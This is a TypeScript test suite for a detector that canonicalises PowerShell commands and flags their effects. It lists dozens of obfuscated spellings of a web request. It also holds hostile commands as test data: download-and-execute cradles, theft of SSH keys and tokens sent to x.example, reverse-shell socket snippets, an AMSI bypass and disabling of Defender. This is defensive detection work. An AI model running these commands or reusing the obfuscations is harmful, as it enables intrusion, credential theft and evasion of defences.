import assert from "node:assert/strict";
import { gzipSync } from "node:zlib";
import { canonical } from "./canonical.ts";
import { effects, encoded, lowerWindows, places, plain } from "./windows-canonical.ts";

const fetch = "invoke-webrequest -Uri=http://x.example/a";
const url = "http://x.example/a";
const base64 = (text: string) => Buffer.from(text, "utf8").toString("base64");

/** Each is the one command, however it is dressed. */
const dressings: readonly string[] = [
  `Invoke-WebRequest -Uri ${url}`,
  `iwr ${url}`,
  `iwr -Uri:${url}`,
  `IWR -uR '${url}'`,
  `iNVOKE-wEBrEQUEST "${url}"`,
  `Microsoft.PowerShell.Utility\\Invoke-WebRequest ${url}`,
  `i\`wr ${url}`,
  `&'iwr' ${url}`,
  `& "i$('w')r" ${url}`,
  `. iwr ${url}`,
  `&('i'+'wr') ${url}`,
  `& ("{1}{0}" -f 'wr','i') ${url}`,
  `& (-join ('i','w','r')) ${url}`,
  `& ('i','w','r' -join '') ${url}`,
  `& ([string]::Join('', 'i','w','r')) ${url}`,
  `& ([string]::Concat('i','wr')) ${url}`,
  `& ([char]105+[char]119+[char]114) ${url}`,
  `& ([char[]](105,119,114) -join '') ${url}`,
  `& ((105,119,114 | % { [char]$_ }) -join '') ${url}`,
  `& (('105-119-114'.Split('-') | % {[char][int]$_}) -join '') ${url}`,
  `& (-join ('105 119 114' -split ' ' | foreach { [char][convert]::ToInt32($_, 10) })) ${url}`,
  `& ('qwr'.Replace('q','i')) ${url}`,
  `& ('qwr' -replace 'q','i') ${url}`,
  `& ('xxiwrxx'.Substring(2,3)) ${url}`,
  `& ('rwi'[2,1,0] -join '') ${url}`,
  `& (-join 'rwi'[-1..-3]) ${url}`,
  `$a='rwi'.ToCharArray(); [array]::Reverse($a); & (-join $a) ${url}`,
  `& ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64("iwr")}'))) ${url}`,
  `& ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('${encoded("iwr")}'))) ${url}`,
  `& ("i{0}r" -f "w") ${url}`,
  `$x='iwr'; & $x ${url}`,
  `$x='iw'; $x+='r'; & $x ${url}`,
  `$h=@{c='iwr'}; & $h.c ${url}`,
  `$h=@{c='iwr'}; & $h['c'] ${url}`,
  `\${a b}='iwr'; & \${a b} ${url}`,
  `sal zz iwr; zz ${url}`,
  `Set-Alias -Name zz -Value Invoke-WebRequest; zz ${url}`,
  `& (Get-Command i*webr*) ${url}`,
  `& (gcm iwr) ${url}`,
  `Set-Variable v iwr; & (Get-Variable v -ValueOnly) ${url}`,
  `iwr ('http://x.'+'example/a')`,
  `$h='x.example'; iwr "http://$h/a"`,
  `$h='x.example'; iwr "http://$($h)/a"`,
  `$h='x.example'; iwr ('http://{0}/a' -f $h)`,
  `$p=@{Uri='${url}'}; iwr @p`,
  `iwr \`\n  -Uri ${url}`,
  `iwr <# why #> ${url} # because`,
  `iwr @'\n${url}\n'@`,
  `iex 'iwr ${url}'`,
  `'iwr ${url}' | iex`,
  `Invoke-Expression -Command "iwr ${url}"`,
  `iex ("iwr ", "${url}" -join '')`,
  `& ([scriptblock]::Create('iwr ${url}'))`,
  `([scriptblock]::Create('iwr ${url}')).Invoke()`,
  `& { iwr ${url} }`,
  `.{iwr ${url}}`,
  `{iwr ${url}}.Invoke()`,
  `icm { iwr ${url} }`,
  `$ExecutionContext.InvokeCommand.InvokeScript('iwr ${url}')`,
  `& ($env:ComSpec[4,15,25] -join '' -replace '^.*$','iwr') ${url}`,
  `&($ShellId[1]+'wr') ${url}`,
  `.($PSHoMe[4]+$pShOMe[30]+'x') 'iwr ${url}'`,
  `&((GEt-VariablE '*mdr*').naME[3,11,2]-joIn'') 'iwr ${url}'`,
  `&( -join ([char[]]'hvs' | %{[char]($_ -bxor 1)})) ${url}`,
  `SeT-iTeM VaRiAbLe:q ([TYPe]('{1}{0}' -F'vert','con')); iex ((gI variable:q).vAlUE::ToString('iwr ${url}'))`,
  `iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gzipSync(`iwr ${url}`).toString("base64")}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
  `function g($n) { & $n ${url} }; g iwr`,
  `foreach ($c in 'i','w','r') { $s += $c }; & $s ${url}`,
  `for ($i=0; $i -lt 3; $i++) { $s += 'iwr'[$i] }; & $s ${url}`,
  `1..3 | % { $s = '' } ; $s += 'iwr'; & $s ${url}`,
  `& ([char](0x69 -bxor 0)+'wr') ${url}`,
  `& (-join ('hvq'.ToCharArray() | % { [char]([int]$_ + 1) })) ${url}`,
  `iwr ([uri]::UnescapeDataString('http%3A%2F%2Fx.example%2Fa'))`,
  `% { iwr ${url} }`,
  `if ($true) { iwr ${url} }`,
  `try { iwr ${url} } catch {}`,
  `$r = iwr ${url}`,
  `(iwr ${url}).Content`,
  `[void](iwr ${url})`,
];

/** Lines of what only prepares the command are not what this is about. */
const preparing =
  /^(?:set-alias|set-variable|get-variable|get-command|set-item|get-item|foreach-object|new-object|io\.streamreader\.readtoend|g)(?: |$)/;

describe("PowerShell in one spelling", () => {
  it("is proved by at least sixty dressings", () => {
    assert.ok(dressings.length >= 60, `there are ${dressings.length}`);
  });

  for (const written of dressings) {
    it(`prints ${JSON.stringify(written)} as the one command`, () => {
      assert.deepEqual(
        plain("powershell", written).filter((line) => !preparing.test(line)),
        [fetch],
      );
    });
  }

  const encodings = ["-e", "-ec", "-en", "-enc", "-enco", "-EnCoDeDcOmMaNd", "/e", "–enc", "-encodedc"];
  for (const option of encodings) {
    it(`enters what stands behind ${option}`, () => {
      assert.equal(plain("powershell", `powershell.exe -NoP ${option} ${encoded(`iwr ${url}`)}`)[0], fetch);
    });
  }

  const hosts: readonly (readonly [string, string])[] = [
    ["powershell", `powershell -c "iwr ${url}"`],
    ["powershell", `powershell -Command iwr ${url}`],
    ["powershell", `powershell iwr ${url}`],
    ["powershell", `pwsh -NoProfile -w hidden -ep bypass -c 'iwr ${url}'`],
    ["powershell", `cmd /c powershell -c iwr ${url}`],
    ["powershell", `cmd.exe /c "powershell -c ""iwr ${url}"""`],
    ["powershell", `Start-Process powershell -ArgumentList '-c','iwr ${url}'`],
    ["powershell", `start powershell "-nop -c iwr ${url}"`],
    ["powershell", `saps -FilePath C:\\Windows\\System32\\cmd.exe -Args '/c powershell iwr ${url}'`],
    ["powershell", `Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='powershell -c iwr ${url}'}`],
    ["powershell", `([wmiclass]'Win32_Process').Create('powershell -c iwr ${url}')`],
    ["powershell", `(New-Object -ComObject WScript.Shell).Run('powershell -c iwr ${url}')`],
    ["powershell", `[Diagnostics.Process]::Start('powershell','-c iwr ${url}')`],
    ["powershell", `schtasks /create /tn t /tr "powershell -c iwr ${url}" /sc minute`],
    ["powershell", `bash -c "pwsh -c 'iwr ${url}'"`],
    ["powershell", `wsl pwsh -c 'iwr ${url}'`],
    ["bash", `powershell.exe -enc ${encoded(`iwr ${url}`)}`],
    ["bash", `/mnt/c/Windows/System32/WindowsPowerShell/v1.0/powershell.exe -c 'iwr ${url}'`],
    ["bash", `cmd.exe /c "powershell -c iwr ${url}"`],
    ["bash", `echo 'iwr ${url}' | pwsh -`],
  ];
  for (const [language, written] of hosts) {
    it(`enters ${JSON.stringify(written)} in ${language}`, () => {
      const lines = language === "bash" ? canonical(written) : plain("powershell", written);
      assert.ok(lines.includes(fetch), lines.join("\n"));
    });
  }

  const lines: readonly (readonly [string, ...string[]])[] = [
    ["iwr u -OutF f", "invoke-webrequest -OutFile=f -Uri=u"],
    ["Set-MpPreference -DisableRealtimeMonitoring $true", "set-mppreference -DisableRealtimeMonitoring=true"],
    ["Remove-Item -Recurse:$true -Force:$false p", "remove-item -Force=false -Path=p -Recurse"],
    ["rm -r -fo p", "remove-item -Force -Path=p -Recurse"],
    ["rm -rf /", "rm -f -r -- /"],
    ["curl -fsSL u", "curl -L -S -f -s -- u"],
    ["curl.exe u", "curl -- u"],
    ["sc create s binPath= C:\\x", "sc create 'binpath=C:\\x' -- s"],
    ["New-NetFirewallRule -DisplayName a -LocalPort 1,2", "new-netfirewallrule -DisplayName=a -LocalPort=1,2"],
    ["sp HKEY_CURRENT_USER:\\Software\\X n v", "set-itemproperty -Name=n '-Path=HKCU\\Software\\X' -Value=v"],
    ["nmap -sV h", "nmap -sV -- h"],
    ["$a = 'x','y'; tool $a", "tool -- x y"],
    ["tool x,y", "tool -- x,y"],
    ["tool --% a;b 'c d'", "tool -- 'a;b' $'\\'c' $'d\\''"],
    ["cd 'C:\\Users\\me\\x'", "set-location -Path=~/x"],
    ["type $env:USERPROFILE\\.ssh\\id_rsa", "get-content -Path=~/.ssh/id_rsa"],
    [
      "[Ref].Assembly.GetType('System.Management.'+'Automation.AmsiUtils')",
      "ref.assembly.gettype -- System.Management.Automation.AmsiUtils",
    ],
    ["a && b || c", "a", "b", "c"],
    ["a | b | c", "a | b | c"],
    ["if ($x) { $c = 'a' } else { $c = 'b' }; & $c", "a", "b"],
    ["foreach ($h in 'a','b') { ping $h }", "ping -- a", "ping -- b"],
    ["1..300 | % { ping 10.0.0.$_ }", 'ping -- "10.0.0.$UNKNOWN"'],
    ["switch ($x) { 1 { a } default { b } }", "a", "b"],
    ["function f { param($a) tool $a }; f x", "tool -- x", "f -- x"],
    ["function f { param([string]$a = 'd', $b) tool $a $b }; f -b y", "tool -- d y", "f -- -b y"],
    [
      "Register-ObjectEvent $t Elapsed -Action { calc }",
      "calc",
      "register-objectevent '-Action={ calc }' -EventName=Elapsed \"-InputObject=$t\"",
    ],
    ["iex $unknown", 'invoke-expression "-Command=$unknown"'],
    ["& $unknown a", '"$unknown" -- a'],
  ];
  for (const [written, ...expected] of lines) {
    it(`prints ${JSON.stringify(written)}`, () => assert.deepEqual(plain("powershell", written), expected));
  }
});

describe("effects of PowerShell", () => {
  it("prints the times and attributes that a file is given, whatever gave the file", () => {
    assert.deepEqual(effects("powershell", "(Get-Item C:\\t\\a.txt).LastWriteTime = '2019-03-01'"), [
      ":set io.filesysteminfo.lastwritetime '2019-03-01'",
    ]);
    assert.deepEqual(effects("powershell", "$f = Get-Item C:\\t\\a.txt; $f.Length = 3"), []);
  });

  it("knows where the profile is that each session runs", () => {
    assert.deepEqual(effects("powershell", "Add-Content $PROFILE 'x'"), [
      ":write ~/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1",
    ]);
  });

  const rows: readonly (readonly [string, ...string[]])[] = [
    [`iex (iwr ${url})`, `:fetch ${url} | :run powershell`],
    [`iwr ${url} | iex`, `:fetch ${url} | :run powershell`],
    [`(iwr ${url}).Content | iex`, `:fetch ${url} | :run powershell`],
    [`iex (irm ${url})`, `:fetch ${url} | :run powershell`],
    [`IEX (New-Object Net.WebClient).DownloadString('${url}')`, `:fetch ${url} | :run powershell`],
    [`$w=New-Object System.Net.WebClient; $s=$w.DownloadString('${url}'); iex $s`, `:fetch ${url} | :run powershell`],
    [`iex ([Net.WebClient]::new()).DownloadString('${url}')`, `:fetch ${url} | :run powershell`],
    [`iex ([Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData('${url}')))`, `:fetch ${url} | :run powershell`],
    [
      `$r=[Net.WebRequest]::Create('${url}').GetResponse(); iex (New-Object IO.StreamReader($r.GetResponseStream())).ReadToEnd()`,
      `:fetch ${url} | :run powershell`,
    ],
    [
      `$x=New-Object -ComObject MSXML2.XMLHTTP; $x.Open('GET','${url}',0); $x.Send(); iex $x.ResponseText`,
      `:fetch ${url} | :run powershell`,
    ],
    [`iwr ${url} -OutFile $env:TEMP\\a.ps1; & $env:TEMP\\a.ps1`, `:fetch ${url} | :run ~/AppData/Local/Temp/a.ps1`],
    [
      `(New-Object Net.WebClient).DownloadFile('${url}','C:\\x\\a.exe'); Start-Process C:\\x\\a.exe`,
      `:fetch ${url} | :write C:/x/a.exe`,
      `:fetch ${url} | :run C:/x/a.exe`,
    ],
    [`Start-BitsTransfer ${url} f.exe; .\\f.exe`, `:fetch ${url} | :run ./f.exe`],
    [`iwr ${url} -o f.ps1; powershell -File f.ps1`, `:fetch ${url} | :run powershell`],
    [`certutil -urlcache -split -f ${url} f.exe; ./f.exe`, `:fetch ${url} | :write f.exe`, `:fetch ${url} | :run ./f.exe`],
    [`[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('${url}'))`, `:fetch ${url} | :run dotnet`],
    ["$k = Get-Content ~/.ssh/id_rsa -Raw; iwr http://x.example -Method POST -Body $k", ":read ~/.ssh/id_rsa | :send x.example"],
    ["irm http://x.example -Method Post -InFile C:\\Users\\me\\.ssh\\id_rsa", ":read ~/.ssh/id_rsa | :send x.example"],
    ["(New-Object Net.WebClient).UploadFile('http://x.example/', \"$HOME\\.ssh\\id_rsa\")", ":read ~/.ssh/id_rsa | :send x.example"],
    [
      "(New-Object Net.WebClient).UploadString('http://x.example/', [IO.File]::ReadAllText('C:/Users/me/.ssh/id_rsa'))",
      ":read ~/.ssh/id_rsa | :send x.example",
    ],
    ["gci env: | Out-String | % { irm http://x.example -Body $_ }", ":env '*' | :send x.example"],
    ["iwr http://x.example -Body $env:AWS_SECRET_ACCESS_KEY", ":env AWS_SECRET_ACCESS_KEY | :send x.example"],
    ['iwr "http://x.example/?k=$env:TOKEN"', ":env TOKEN | :send x.example"],
    ["iwr http://x.example -Body @{k=$env:TOKEN}", ":env TOKEN | :send x.example"],
    ["Set-Content f x", ":write f"],
    ["'x' > f", ":write f"],
    ["'x' | Out-File -Append f", ":write f"],
    ["cp a b", ":read a | :write b"],
    ["$env:PATH = 'C:\\x'", ":set PATH 'C:\\x'"],
    [
      "$c = New-Object Net.Sockets.TcpClient('h',1); $s = $c.GetStream(); [byte[]]$b = 0..9; $s.Read($b,0,9); iex ([Text.Encoding]::ASCII.GetString($b))",
      ":connect h '1'",
      ":fetch h | :run powershell",
    ],
    ["[Net.Sockets.TcpListener]::new(4444).Start()", ":listen '4444'"],
    [
      "$l = [Net.Sockets.TcpListener]4444; $c = $l.AcceptTcpClient(); $r = New-Object IO.StreamReader($c.GetStream()); iex $r.ReadLine()",
      ":fetch '0.0.0.0' | :run powershell",
    ],
    ["$l = New-Object Net.HttpListener; iex $l.GetContext().Request.QueryString['c']", ":fetch '0.0.0.0' | :run powershell"],
    [
      "$s = New-Object Net.Sockets.Socket(2,1,6); $s.Connect('h',1); $b = New-Object byte[] 9; $s.Receive($b); iex ([Text.Encoding]::ASCII.GetString($b))",
      ":connect h '1'",
      ":fetch h | :run powershell",
    ],
    [
      "$p = [Diagnostics.Process]::Start('cmd'); $c = New-Object Net.Sockets.TcpClient('h',1); $q = New-Object Diagnostics.Process; $q.StandardInput.WriteLine($c.GetStream().ReadLine())",
      ":connect h '1'",
      ":fetch h | :run cmd",
    ],
    [
      "powershell -c \"$c = New-Object Net.Sockets.TcpClient('h',1); $d = $c.GetStream().ReadLine(); iex $d\"",
      ":connect h '1'",
      ":fetch h | :run powershell",
    ],
    ["'iwr http://x.example | iex' | sc f.ps1; .\\f.ps1", ":fetch http://x.example | :run powershell"],
  ];
  for (const [written, ...expected] of rows) {
    it(`finds ${expected.join(", ")} in ${JSON.stringify(written)}`, () => {
      const found = effects("powershell", written);
      for (const effect of expected) assert.ok(found.includes(effect), `found:\n${found.join("\n")}`);
    });
  }

  it("takes keys of the registry and other items for no files", () => {
    assert.deepEqual(effects("powershell", "cp HKCU:\\a HKCU:\\b; New-Item HKLM:\\x -Value y; gc Cert:\\a"), []);
  });

  const silent = [
    `iwr ${url}`,
    `Write-Host "iex (iwr ${url})"`,
    "gci | select Name",
    `# iex (iwr ${url})`,
    `$x = 'iex (iwr ${url})'`,
    `git commit -m "iex (iwr ${url})"`,
  ];
  for (const written of silent) {
    it(`lets nothing run or leave in ${JSON.stringify(written)}`, () => {
      assert.deepEqual(
        effects("powershell", written).filter((line) => / :(run|send) /.test(line)),
        [],
      );
    });
  }
});

describe("places of PowerShell", () => {
  it("marks a command from its name to its last word", () => {
    assert.deepEqual(places("powershell", "$x = 1\n  iwr -Uri 'u v'  # c"), ["iwr -Uri 'u v'"]);
  });
  it("marks what a text holds where it stands in the text", () => {
    assert.deepEqual(places("powershell", "iex 'a; b c'"), ["a", "b c"]);
    assert.deepEqual(places("powershell", 'powershell -c "a; b c"'), ["a", "b c", 'powershell -c "a; b c"']);
  });
  it("marks what was decoded as the word it was in", () => {
    const text = `powershell -enc ${encoded("calc")}`;
    assert.equal(places("powershell", text)[0], encoded("calc"));
  });
  it("marks a method call as a whole", () => {
    assert.deepEqual(places("powershell", "x; [A.B]::C( 'd' )"), ["x", "[A.B]::C( 'd' )"]);
  });
  it("names the layers outermost first", () => {
    const { lines } = lowerWindows("powershell", `cmd /c powershell -enc ${encoded("iex 'calc'")}`);
    assert.deepEqual(lines[0]?.stages[0]?.via, ["cmd /c", "pwsh -EncodedCommand", "base64", "invoke-expression"]);
  });
  it("is exact behind Windows line ends", () => {
    assert.deepEqual(places("powershell", "a\r\nb c\r\n"), ["a", "b c"]);
  });
});

describe("PowerShell that cannot be read", () => {
  const blocking = (text: string) => lowerWindows("powershell", text).problems.filter(({ weight }) => weight === "blocking");

  it("loses one statement to a mistake in it, and says where", () => {
    const text = "a\n$x 5\nb";
    assert.deepEqual(plain("powershell", text), ["a", "b"]);
    const [problem, ...others] = blocking(text);
    assert.equal(problem?.code, "unparsed");
    assert.equal(text.slice(problem?.start, problem?.end), "5");
    assert.deepEqual(others, []);
  });
  it("goes on inside of a block", () => {
    assert.deepEqual(plain("powershell", "if ($y) {\n  a\n  $x 5\n  b\n}\nc"), ["a", "b", "c"]);
  });
  it("goes on behind what is never closed", () => {
    for (const open of ["'abc", '"abc', "(", "@(", "{", "@{", "@'\nabc", "<# abc", "[x("]) {
      const text = `a\nb ${open}\nc`;
      assert.equal(plain("powershell", text)[0], "a", open);
      assert.equal(plain("powershell", text).at(-1), "c", open);
      assert.ok(blocking(text).length >= 1, open);
    }
  });
  it("says of unknown code, names and hosts that they are unknown", () => {
    const codes = lowerWindows("powershell", "iex $a; & $b; iwr $c -Body (gc f)").problems.map(({ code, weight }) => `${weight} ${code}`);
    assert.deepEqual(codes.sort(), ["note unresolved-code", "note unresolved-destination", "note unresolved-name"]);
  });
  it("hands code of other languages on", () => {
    assert.deepEqual(
      lowerWindows("powershell", 'python -c "import os"; Add-Type -TypeDefinition "class A {}"').nested.map(({ language }) => language),
      ["python", "csharp"],
    );
  });
});
